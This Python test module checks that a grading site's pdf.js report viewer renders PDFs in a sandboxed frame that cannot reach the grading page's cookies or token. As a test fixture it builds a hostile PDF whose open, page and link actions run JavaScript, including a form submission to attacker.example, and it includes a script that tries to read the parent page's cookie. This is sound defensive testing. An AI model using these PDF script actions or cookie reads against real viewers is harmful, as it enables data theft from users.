"""The report viewer in a real browser through the real stack: on a TA's grading page the vendored pdf.js draws a
two-page report onto two canvases inside a frame sandboxed without allow-same-origin (an opaque origin, no
cookie, no reach into the grading page), with no CSP violation; a PDF whose /OpenAction, page /AA and link run
JavaScript is drawn and nothing of it runs; the viewer opened on its own is still sandboxed and fetches nothing.

This module runs its own stack (Redis database 15) with the demo's project-features alone."""
from __future__ import annotations

import base64
from pathlib import Path

import pytest

from tests.conftest import require
from tests.integration.test_web import browser, context, page, sign_in  # noqa: F401
from tests.pdf_bytes import assemble, make_pdf
from tests.stack import module_stack

pytestmark = [pytest.mark.integration, pytest.mark.bwrap, pytest.mark.redis, pytest.mark.browser]
SLUG = "project-features"
# Dark pixels per drawn canvas (a page of one line of 24 pt text has a few thousand; a blank page has none)
INK = """() => [...document.querySelectorAll("canvas[data-rendered]")].map((canvas) => {
  const pixels = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data;
  let dark = 0;
  for (let i = 0; i < pixels.length; i += 4) if (pixels[i] < 128 && pixels[i + 3] > 0) dark += 1;
  return dark;
})"""
REACH = """() => {
  const attempt = (read) => { try { return String(read()); } catch (error) { return error.name; } };
  return {origin: self.origin, cookie: attempt(() => document.cookie),
          parentCookie: attempt(() => window.parent.document.cookie),
          parentToken: attempt(() => window.parent.document.body.getAttribute("hx-headers")),
          storage: attempt(() => window.localStorage.length)};
}"""
DEJAVU = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
JPEG = """() => { const canvas = document.createElement("canvas"); canvas.width = canvas.height = 64;
  const draw = canvas.getContext("2d"); draw.fillStyle = "#123"; draw.fillRect(0, 0, 64, 64);
  return canvas.toDataURL("image/jpeg", 0.9); }"""
SHUT_OUT = {"origin": "null", "cookie": "SecurityError", "parentCookie": "SecurityError",
            "parentToken": "SecurityError", "storage": "SecurityError"}


def hostile_pdf() -> bytes:
    """One page of text whose catalog /OpenAction, named JavaScript, page-open /AA and a link all run JavaScript
    (an alert, a form submission, a print) in a viewer that runs a PDF's scripts."""
    js = r"app.alert\('pdf javascript ran'\); this.print\(\); this.submitForm\('https://attacker.example/'\);"
    stream = "BT /F1 24 Tf 72 720 Td (Hostile 1) Tj ET"
    return assemble([
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(run) 6 0 R] >> >> >>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
        "/Contents 5 0 R /AA << /O 6 0 R >> /Annots [7 0 R] >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        f"<< /Type /Action /S /JavaScript /JS ({js}) >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 700 400 750] /Border [0 0 0] /A 6 0 R >>"])


def rich_pdf(font: bytes, jpeg: bytes) -> bytes:
    """One page with text in an embedded TrueType font and a JPEG image (what exported reports carry)."""
    content = "q 200 0 0 200 72 300 cm /Im1 Do Q BT /F1 24 Tf 72 720 Td (Embedded font) Tj ET"
    widths = " ".join(["600"] * 224)
    return assemble([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> "
        "/XObject << /Im1 7 0 R >> >> /Contents 8 0 R >>",
        f"<< /Type /Font /Subtype /TrueType /BaseFont /DejaVuSans /FirstChar 32 /LastChar 255 /Widths [{widths}] "
        "/FontDescriptor 5 0 R /Encoding /WinAnsiEncoding >>",
        "<< /Type /FontDescriptor /FontName /DejaVuSans /Flags 32 /FontBBox [-1021 -463 1793 1232] /ItalicAngle 0 "
        "/Ascent 928 /Descent -236 /CapHeight 729 /StemV 80 /FontFile2 6 0 R >>",
        f"<< /Length {len(font)} >>\nstream\n{font.decode('latin-1')}\nendstream",
        f"<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        f"/Filter /DCTDecode /Length {len(jpeg)} >>\nstream\n{jpeg.decode('latin-1')}\nendstream",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"])


@pytest.fixture(scope="module")
def stack(tmp_path_factory, redis_url):
    yield from module_stack(tmp_path_factory, redis_url, name="pdfviewer", db=15, demo_only=(SLUG,))


@pytest.fixture(scope="module")
def reports(stack) -> dict[str, int]:
    """A two-page report (student1's team) and a hostile one (student3), each checked by the worker."""
    sent = {"two": stack.grade("two-pages.pdf", make_pdf("Two", pages=2), slug=SLUG),
            "hostile": stack.grade("hostile.pdf", hostile_pdf(), slug=SLUG, username="student3")}
    assert [r["status"] for r in sent.values()] == ["graded", "graded"], sent
    return {name: r["id"] for name, r in sent.items()}


def open_report(page, sid: int, pages: int):  # noqa: F811
    """The grading page with the viewer's frame, once it has drawn `pages` canvases."""
    page.goto(f"/submissions/{sid}/grade")
    frame = page.frame_locator("#report-frame")
    frame.locator("canvas[data-rendered]").nth(pages - 1).wait_for()
    page.wait_for_function("document.querySelector('#report-status').textContent !== ''")
    return page.locator("#report-frame").element_handle().content_frame()


def test_a_ta_sees_both_pages_drawn_in_a_frame_that_cannot_reach_the_grading_page(page, stack, reports):  # noqa: F811
    sign_in(page, "ta1")
    frame = open_report(page, reports["two"], 2)
    assert page.get_attribute("#report-frame", "sandbox") == "allow-scripts"
    assert frame.url.endswith("/report-viewer")
    assert page.inner_text("#report-status") == "2 pages."
    assert frame.locator("canvas").count() == 2 and frame.get_attribute("body", "data-pages") == "2"
    ink = frame.evaluate(INK)
    assert len(ink) == 2 and min(ink) > 200, ink  # both pages drawn, with their text
    assert frame.evaluate(REACH) == SHUT_OUT
    assert page.evaluate("document.cookie") == ""  # the session cookie is HttpOnly even for the page itself
    assert page.console_errors == [] and page.dialogs == []  # within both CSPs, nothing blocked
    assert page.locator("#report-download").get_attribute("href") == f"/submissions/{reports['two']}/report.pdf?download=1"


def test_a_pdf_carrying_javascript_is_drawn_and_none_of_it_runs(page, stack, reports):  # noqa: F811
    sign_in(page, "ta1")
    frame = open_report(page, reports["hostile"], 1)
    frame.locator("canvas[data-rendered]").first.click()  # on the link that would run the script
    assert page.inner_text("#report-status") == "1 page."
    assert min(frame.evaluate(INK)) > 200
    assert frame.evaluate(REACH) == SHUT_OUT
    assert page.dialogs == [] and page.console_errors == []  # no alert, no print, no blocked request
    assert page.url.endswith(f"/submissions/{reports['hostile']}/grade")  # no navigation either


def test_the_viewer_opened_on_its_own_is_still_sandboxed_and_fetches_nothing(page, stack):  # noqa: F811
    sign_in(page, "ta1")
    page.goto("/report-viewer")
    assert page.evaluate("self.origin") == "null"  # its CSP's sandbox, without any frame
    assert page.evaluate("fetch('/api/v1/assignments').then(() => 'fetched', (error) => error.name)") == "TypeError"
    assert any("connect-src" in error for error in page.console_errors)  # refused by the CSP


def test_an_embedded_font_and_a_jpeg_are_drawn_under_the_same_policy(page, stack):  # noqa: F811
    require(DEJAVU.exists(), "fonts-dejavu is not installed")
    jpeg = base64.b64decode(page.evaluate(JPEG).split(",", 1)[1])  # chromium's own JPEG encoder
    sent = stack.grade("rich.pdf", rich_pdf(DEJAVU.read_bytes(), jpeg), slug=SLUG, username="student4")
    assert sent["status"] == "graded", sent
    sign_in(page, "ta1")
    frame = open_report(page, sent["id"], 1)
    assert frame.evaluate("[...document.fonts].map((font) => font.status)") == ["loaded"]  # the PDF's own font
    dark = frame.evaluate(INK)[0]
    assert dark > 64 * 64, dark  # the text and the (dark) image
    assert page.console_errors == [] and page.dialogs == []
